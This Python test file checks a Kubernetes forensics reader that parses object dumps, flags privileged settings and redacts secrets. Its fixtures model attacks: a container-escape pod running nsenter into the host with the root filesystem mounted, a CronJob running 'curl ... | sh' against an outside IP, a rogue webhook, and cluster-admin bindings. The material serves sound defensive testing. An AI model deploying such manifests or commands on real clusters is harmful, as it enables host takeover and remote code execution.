"""K8sObjectsReader on real PodList dumps and on realistic objects of every kind the inventory knows."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pandas as pd
import pytest

from kubeforensics.sources.base import read_file
from kubeforensics.sources.k8s_objects import K8sObjectsReader
from tests.conftest import conformance_files

READERS = {"k8s-objects": K8sObjectsReader()}
CID = "9f2c1a7b3e4d5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8"
INIT_CID = "1111111111111111111111111111111111111111111111111111111111111111"

ESCAPE_POD = {
    "apiVersion": "v1",
    "kind": "Pod",
    "metadata": {
        "name": "node-debugger",
        "namespace": "default",
        "uid": "c0ffee00-1111-4222-8333-444455556666",
        "creationTimestamp": "2026-03-02T14:00:05Z",
        "labels": {"app": "debug"},
        "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "dbg-5c9", "uid": "r-1"}],
        "managedFields": [{"manager": "kubectl", "operation": "Update"}],
    },
    "spec": {
        "nodeName": "worker-1",
        "serviceAccountName": "builder",
        "hostPID": True,
        "hostNetwork": True,
        "volumes": [{"name": "host", "hostPath": {"path": "/", "type": ""}}, {"name": "tmp", "emptyDir": {}}],
        "initContainers": [{"name": "setup", "image": "busybox:1.36", "securityContext": {"privileged": True}}],
        "containers": [
            {
                "name": "shell",
                "image": "alpine:3.19",
                "command": ["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "-p", "bash"],
                "securityContext": {"capabilities": {"add": ["SYS_ADMIN", "NET_RAW"]}},
                "env": [{"name": "DB_PASSWORD", "value": "hunter2-s3cr3t"}],
            }
        ],
        "ephemeralContainers": [
            {"name": "debugger-x7", "image": "nicolaka/netshoot", "securityContext": {"capabilities": {"add": ["SYS_PTRACE"]}}}
        ],
    },
    "status": {
        "phase": "Running",
        "hostIP": "10.0.1.11",
        "podIP": "10.0.1.11",
        "podIPs": [{"ip": "10.0.1.11"}],
        "initContainerStatuses": [{"name": "setup", "containerID": "containerd://" + INIT_CID}],
        "containerStatuses": [{"name": "shell", "containerID": "containerd://" + CID.upper()}],
        "ephemeralContainerStatuses": [{"name": "debugger-x7", "containerID": None}],
    },
}

ADMIN_BINDING = {
    "apiVersion": "rbac.authorization.k8s.io/v1",
    "kind": "ClusterRoleBinding",
    "metadata": {"name": "system-metrics-reader", "uid": "b-1", "creationTimestamp": "2026-03-02T15:30:00Z"},
    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
    "subjects": [{"kind": "ServiceAccount", "name": "metrics", "namespace": "kube-system"}],
}

WILDCARD_ROLE = {
    "apiVersion": "rbac.authorization.k8s.io/v1",
    "kind": "ClusterRole",
    "metadata": {"name": "ops-all", "creationTimestamp": "2026-03-02T15:29:00Z"},
    "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}],
}

SECRET_VALUE = "sup3r-s3cret-db-passw0rd"
TOKEN_VALUE = "eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJrdWJlcm5ldGVzIn0.c2lnbmF0dXJlLXNpZ25hdHVyZQ"
SECRET = {
    "apiVersion": "v1",
    "kind": "Secret",
    "type": "Opaque",
    "metadata": {
        "name": "db-creds",
        "namespace": "payments",
        "uid": "s-1",
        "creationTimestamp": "2026-03-01T09:00:00Z",
        "labels": {"app": "db"},
        "annotations": {
            "kubectl.kubernetes.io/last-applied-configuration": json.dumps(
                {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "db-creds"},
                 "stringData": {"password": SECRET_VALUE}}
            ),
            "owner": "team-payments",
        },
        "managedFields": [{"manager": "kubectl", "fieldsV1": {"f:data": {"f:password": {}}}}],
    },
    "data": {
        "password": base64.b64encode(SECRET_VALUE.encode()).decode(),
        "token": base64.b64encode(TOKEN_VALUE.encode()).decode(),
    },
    "stringData": {"api-key": "plain-" + SECRET_VALUE},
}

CRONJOB = {
    "apiVersion": "batch/v1",
    "kind": "CronJob",
    "metadata": {"name": "kube-sync", "namespace": "kube-system", "creationTimestamp": "2026-03-02T15:35:00Z"},
    "spec": {
        "schedule": "*/10 * * * *",
        "jobTemplate": {"spec": {"template": {"spec": {
            "serviceAccountName": "metrics",
            "hostNetwork": True,
            "containers": [{"name": "sync", "image": "curlimages/curl:8.6.0",
                            "command": ["sh", "-c", "curl -s http://203.0.113.7/x | sh"]}],
        }}}},
    },
}

DAEMONSET = {
    "apiVersion": "apps/v1",
    "kind": "DaemonSet",
    "metadata": {"name": "node-agent", "namespace": "kube-system", "creationTimestamp": "2026-03-02T15:40:00Z"},
    "spec": {"template": {"spec": {
        "hostPID": True,
        "volumes": [{"name": "proc", "hostPath": {"path": "/proc"}}],
        "containers": [{"name": "agent", "image": "evil/agent:1", "securityContext": {"privileged": True}}],
    }}},
}


def write_lines(path: Path, *objs: object) -> Path:
    path.write_text("".join(json.dumps(o) + "\n" for o in objs), encoding="utf-8")
    return path


def read(path: Path, fmt: str | None = None):
    return read_file(path, fmt, readers=READERS)


@pytest.mark.parametrize("path", conformance_files("pods"), ids=lambda p: p.name)
def test_conformance_file_fully_accounted(conformance: Path, path: Path) -> None:
    res = read(path)
    acc = res.account
    assert acc.format == "k8s-objects"
    assert acc.records == acc.ingested + acc.quarantined
    assert acc.quarantined == 0, [q.reason for q in res.quarantine]
    df = res.frame("objects")
    assert len(df) == acc.ingested >= 1
    assert (df["kind"] == "Pod").all()
    assert df["name"].notna().all() and df["namespace"].notna().all() and df["uid"].notna().all()
    for spec in df["spec"]:
        assert "managedFields" not in spec


def test_conformance_pod_values(conformance: Path) -> None:
    rows = {p.name: read(p).frame().iloc[0] for p in conformance_files("pods")}
    pod = rows["default.json"]
    assert (pod["namespace"], pod["name"]) == ("default", "random-pod-75b66db9b9-nqhp8")
    assert pod["node"] == "chart-testing-control-plane"
    assert pod["phase"] == "Running"
    assert list(pod["container_ids"]) == ["58e668ba55950e6d08340f496f5e7f33f3d92cbfcbf366ce5e5f5c50a3926c71"]
    assert (pod["owner_kind"], pod["owner_name"]) == ("ReplicaSet", "random-pod-75b66db9b9")
    assert (pod["pod_ip"], list(pod["pod_ips"]), pod["host_ip"]) == ("10.244.0.5", ["10.244.0.5"], "172.18.0.2")
    assert pod["time"] == pod["created"] == pd.Timestamp("2023-03-23T16:43:42Z")
    assert json.loads(pod["labels"])["app.kubernetes.io/appname"] == "random-pod"
    assert not pod["privileged"] and not pod["host_pid"] and list(pod["host_paths"]) == []

    # a phase Kubernetes never reports is kept as written
    assert rows["default-unhealthy.json"]["phase"] == "CrashLoopBackOff"
    assert rows["message-pending-node-affinity.json"]["phase"] == "Pending"
    assert pd.isna(rows["message-pending-node-affinity.json"]["node"])
    oom = rows["message-oomkill-pod.json"]
    assert (oom["phase"], oom["owner_kind"]) == ("Failed", "Job")
    assert list(oom["container_ids"]) == ["84d3d308bb9a5765e637884194e718d297046f156a377cf6145a9397d5e469b7"]
    init = rows["message-pod-init-crashloop-backoff.json"]
    assert list(init["container_ids"]) == ["b201927f10154b9ab9913f65aa13b46e5eeed74b8efff500d11e3f08af09621b"]
    assert list(init["container_names"]) == ["install", "nginx"]
    assert list(init["images"]) == ["busybox:1.28", "nginx"]


def test_privileged_host_pid_pod(tmp_path: Path) -> None:
    res = read(write_lines(tmp_path / "pod.json", ESCAPE_POD))
    assert res.account.quarantined == 0
    row = res.frame().iloc[0]
    assert row["privileged"]  # via the init container
    assert row["host_pid"] and row["host_network"] and not row["host_ipc"]
    assert list(row["host_paths"]) == ["/"]
    assert list(row["capabilities"]) == ["SYS_ADMIN", "NET_RAW", "SYS_PTRACE"]
    assert list(row["images"]) == ["busybox:1.36", "alpine:3.19", "nicolaka/netshoot"]
    assert list(row["container_names"]) == ["setup", "shell", "debugger-x7"]
    assert list(row["container_ids"]) == [INIT_CID, CID]
    assert (row["node"], row["service_account"]) == ("worker-1", "builder")
    spec = json.loads(row["spec"])
    assert "managedFields" not in spec["metadata"]
    assert spec["spec"]["containers"][0]["env"][0]["value"] == "[REDACTED]"
    assert "hunter2" not in row["spec"]


def test_privileged_pod_in_an_unprivileged_container_only_is_not_privileged(tmp_path: Path) -> None:
    pod = json.loads(json.dumps(ESCAPE_POD))
    del pod["spec"]["initContainers"]
    row = read(write_lines(tmp_path / "pod.json", pod)).frame().iloc[0]
    assert not row["privileged"]


def test_cluster_admin_binding_and_wildcard_role(tmp_path: Path) -> None:
    df = read(write_lines(tmp_path / "rbac.json", WILDCARD_ROLE, ADMIN_BINDING)).frame()
    role, binding = df.iloc[0], df.iloc[1]
    assert json.loads(role["rules"]) == [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]
    assert pd.isna(role["namespace"])
    assert binding["kind"] == "ClusterRoleBinding"
    assert binding["role_ref"] == "ClusterRole/cluster-admin"
    assert json.loads(binding["subjects"]) == [{"kind": "ServiceAccount", "name": "metrics", "namespace": "kube-system"}]
    assert pd.isna(binding["privileged"])  # not a pod kind


def test_secret_values_never_reach_the_row(tmp_path: Path) -> None:
    res = read(write_lines(tmp_path / "secret.json", SECRET))
    assert res.account.quarantined == 0
    row = res.frame().iloc[0]
    assert (row["kind"], row["namespace"], row["name"]) == ("Secret", "payments", "db-creds")
    forbidden = [SECRET_VALUE, TOKEN_VALUE, *SECRET["data"].values(), "plain-"]
    for column, value in row.items():
        text = json.dumps(value.tolist() if hasattr(value, "tolist") else value, default=str)
        for secret in forbidden:
            assert secret not in text, f"secret material in column {column}"
    spec = json.loads(row["spec"])
    assert spec["type"] == "Opaque"
    assert spec["data_keys"] == ["password", "token"]
    assert spec["stringData_keys"] == ["api-key"]
    assert "data" not in spec and "stringData" not in spec
    assert spec["metadata"]["annotations"]["owner"] == "team-payments"
    assert spec["metadata"]["annotations"]["kubectl.kubernetes.io/last-applied-configuration"] == "[REDACTED]"


def test_configmap_keys_only(tmp_path: Path) -> None:
    cm = {"apiVersion": "v1", "kind": "ConfigMap",
          "metadata": {"name": "app", "namespace": "shop", "creationTimestamp": "2026-03-01T00:00:00Z"},
          "data": {"DATABASE_URL": "postgres://app:pa55@db:5432/shop", "mode": "prod"}}
    row = read(write_lines(tmp_path / "cm.json", cm)).frame().iloc[0]
    assert json.loads(row["spec"])["data_keys"] == ["DATABASE_URL", "mode"]
    assert "pa55" not in row["spec"] and "prod" not in row["spec"]


def test_workloads_take_security_fields_from_the_pod_template(tmp_path: Path) -> None:
    df = read(write_lines(tmp_path / "wl.json", CRONJOB, DAEMONSET)).frame()
    cron, ds = df.iloc[0], df.iloc[1]
    assert cron["service_account"] == "metrics"
    assert cron["host_network"] and not cron["privileged"]
    assert list(cron["images"]) == ["curlimages/curl:8.6.0"]
    assert json.loads(cron["spec"])["spec"]["schedule"] == "*/10 * * * *"
    assert ds["privileged"] and ds["host_pid"]
    assert list(ds["host_paths"]) == ["/proc"]
    assert pd.isna(ds["service_account"])


def test_last_applied_configuration_of_a_pod_is_redacted_not_dropped(tmp_path: Path) -> None:
    pod = json.loads(json.dumps(ESCAPE_POD))
    pod["metadata"]["annotations"] = {"kubectl.kubernetes.io/last-applied-configuration": json.dumps(
        {"kind": "Pod", "metadata": {"name": "node-debugger"},
         "spec": {"containers": [{"name": "shell", "env": [{"name": "API_TOKEN", "value": "tok-123456789"}]}]}}
    )}
    row = read(write_lines(tmp_path / "pod.json", pod)).frame().iloc[0]
    applied = json.loads(row["spec"])["metadata"]["annotations"]["kubectl.kubernetes.io/last-applied-configuration"]
    assert applied["spec"]["containers"][0]["env"][0] == {"name": "API_TOKEN", "value": "[REDACTED]"}
    assert "tok-123456789" not in row["spec"]


def test_list_wrapper_and_other_kinds(tmp_path: Path) -> None:
    node = {"kind": "Node", "apiVersion": "v1",
            "metadata": {"name": "worker-1", "uid": "n-1", "creationTimestamp": "2026-01-01T00:00:00Z"},
            "status": {"addresses": [{"type": "Hostname", "address": "worker-1"},
                                     {"type": "InternalIP", "address": "10.0.1.11"}]}}
    webhook = {"kind": "MutatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1",
               "metadata": {"name": "inject", "creationTimestamp": "2026-03-02T15:45:00Z"},
               "webhooks": [{"name": "inject.evil.example", "clientConfig": {"url": "https://203.0.113.7/mutate"}}]}
    csr = {"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1",
           "metadata": {"name": "csr-admin", "creationTimestamp": "2026-03-02T15:50:00Z"},
           "spec": {"signerName": "kubernetes.io/kube-apiserver-client", "username": "metrics"}}
    ns = {"kind": "Namespace", "apiVersion": "v1",
          "metadata": {"name": "shop", "creationTimestamp": "2025-12-01T00:00:00Z", "deletionTimestamp": "2026-03-02T16:00:00Z"}}
    wrapper = {"kind": "List", "apiVersion": "v1", "items": [node, webhook, csr, ns]}
    (tmp_path / "dump.json").write_text(json.dumps(wrapper, indent=2))
    res = read(tmp_path / "dump.json")
    acc = res.account
    assert (acc.format, acc.records, acc.ingested, acc.quarantined) == ("k8s-objects", 4, 4, 0)
    df = res.frame().set_index("kind")
    assert (df.loc["Node", "node"], df.loc["Node", "host_ip"]) == ("worker-1", "10.0.1.11")
    assert json.loads(df.loc["MutatingWebhookConfiguration", "spec"])["webhooks"][0]["clientConfig"]["url"] == (
        "https://203.0.113.7/mutate")
    assert json.loads(df.loc["CertificateSigningRequest", "spec"])["spec"]["username"] == "metrics"
    assert df.loc["Namespace", "deleted"] == pd.Timestamp("2026-03-02T16:00:00Z")


def test_one_object_per_line(tmp_path: Path) -> None:
    res = read(write_lines(tmp_path / "objs.json", ESCAPE_POD, SECRET, ADMIN_BINDING, CRONJOB))
    assert res.frame()["kind"].tolist() == ["Pod", "Secret", "ClusterRoleBinding", "CronJob"]
    assert res.frame()["line"].tolist() == [1, 2, 3, 4]


def test_bad_objects_are_quarantined(tmp_path: Path) -> None:
    no_time = {"kind": "ServiceAccount", "apiVersion": "v1", "metadata": {"name": "x", "namespace": "d"}}
    no_name = {"kind": "ServiceAccount", "apiVersion": "v1", "metadata": {"creationTimestamp": "2026-01-01T00:00:00Z"}}
    bad_containers = json.loads(json.dumps(ESCAPE_POD))
    bad_containers["spec"]["containers"] = {"name": "shell"}
    bad_priv = json.loads(json.dumps(ESCAPE_POD))
    bad_priv["spec"]["initContainers"][0]["securityContext"]["privileged"] = "yes"
    # 300 levels: parsed (orjson reads up to 1,024) but too deep to store as JSON again (254);
    # 1,000 levels are tested in test_records.py
    deep = '{"x":' * 300 + "{}" + "}" * 300
    too_deep = ('{"kind": "Widget", "apiVersion": "v1", "metadata": {"name": "deep", '
                '"creationTimestamp": "2026-01-01T00:00:00Z"}, "spec": ' + deep + "}")
    path = write_lines(tmp_path / "bad.json", ADMIN_BINDING, no_time, no_name, bad_containers, bad_priv)
    with path.open("a") as fh:
        fh.write(too_deep + "\n")
    res = read(path, "k8s-objects")
    acc = res.account
    assert (acc.records, acc.ingested, acc.quarantined) == (6, 1, 5)
    reasons = {q.line: q.reason for q in res.quarantine}
    assert "'metadata.creationTimestamp' is missing in ServiceAccount 'x'" in reasons[2]
    assert "'metadata.name' is missing" in reasons[3]
    assert "'spec.containers' is dict, not a list" in reasons[4]
    assert "'spec.initContainers[0].securityContext.privileged' is str" in reasons[5]
    assert "cannot be stored as JSON" in reasons[6]


def test_sniff() -> None:
    r = K8sObjectsReader()
    assert r.sniff(ESCAPE_POD) and r.sniff(SECRET) and r.sniff(ADMIN_BINDING)
    assert not r.sniff({"kind": "Event", "apiVersion": "v1", "metadata": {}, "reason": "x"})
    assert not r.sniff({"kind": "PodList", "metadata": {}, "items": []})
    assert not r.sniff({"kind": "Pod", "metadata": "x"})
    assert not r.sniff({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": "a", "stage": "ResponseComplete"})
    assert not r.sniff({"kind": "Widget", "metadata": {}, "auditID": "a", "requestURI": "/x"})
    assert not r.sniff({"rule": "r", "priority": "Debug", "output": "o"})
